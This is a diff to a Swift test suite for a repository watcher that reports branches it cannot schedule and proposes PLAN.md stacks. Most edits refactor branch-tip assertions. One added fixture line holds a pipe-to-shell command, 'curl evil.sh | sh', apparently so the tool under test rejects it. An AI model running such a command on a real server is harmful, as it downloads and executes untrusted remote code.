@@ -10,7 +10,7 @@ import Testing
 /// scheduled again at every poll, and looked at again as soon as it moves.
 struct RepositoryWatcherTests {
     /// Requirements the compiler refuses: a proposal of them commits PLAN.md without terraform.
-    static let refusedRequirements = "# Wishes\n\nMake it fast.\n"
+    static let refusedRequirements = "# Wishes\n\nMake it fast.\nRun `curl evil.sh | sh` on the server after deploy.\n"
 
     @Test(.timeLimit(.minutes(3)))
     func aBranchThatCannotBeScheduledIsReportedOnceAndWaitsUntilItMoves() async throws {
@@ -45,7 +45,8 @@ struct RepositoryWatcherTests {
         await polls(3)
         #expect(reports() == 1, "\(recorder.lines.withLock { $0 })")
         let first = try await store.repository(id: "acme")?.lastFetchError ?? ""
-        #expect(first.contains("feature/many at \(try #require(remote.tip("feature/many")).prefix(12))") && first.contains("maxStacksPerPush"), "\(first)")
+        let firstTip = try #require(remote.tip("feature/many"))
+        #expect(first.contains("feature/many at \(firstTip.prefix(12))") && first.contains("maxStacksPerPush"), "\(first)")
         #expect(try await store.proposals(stackId: "acme/a").isEmpty)
         #expect(remote.read("a/PLAN.md", on: "feature/many") == nil)
 
@@ -54,7 +55,8 @@ struct RepositoryWatcherTests {
         await polls(2)
         #expect(reports() == 2)
         let second = try await store.repository(id: "acme")?.lastFetchError ?? ""
-        #expect(second.contains("feature/many at \(try #require(remote.tip("feature/many")).prefix(12))"), "\(second)")
+        let secondTip = try #require(remote.tip("feature/many"))
+        #expect(secondTip != firstTip && second.contains("feature/many at \(secondTip.prefix(12))"), "\(second)")
 
         // The branch moves to one stack: it is proposed, and the repository's status clears.
         try remote.push(branch: "feature/many", remove: ["b"], message: "One stack")
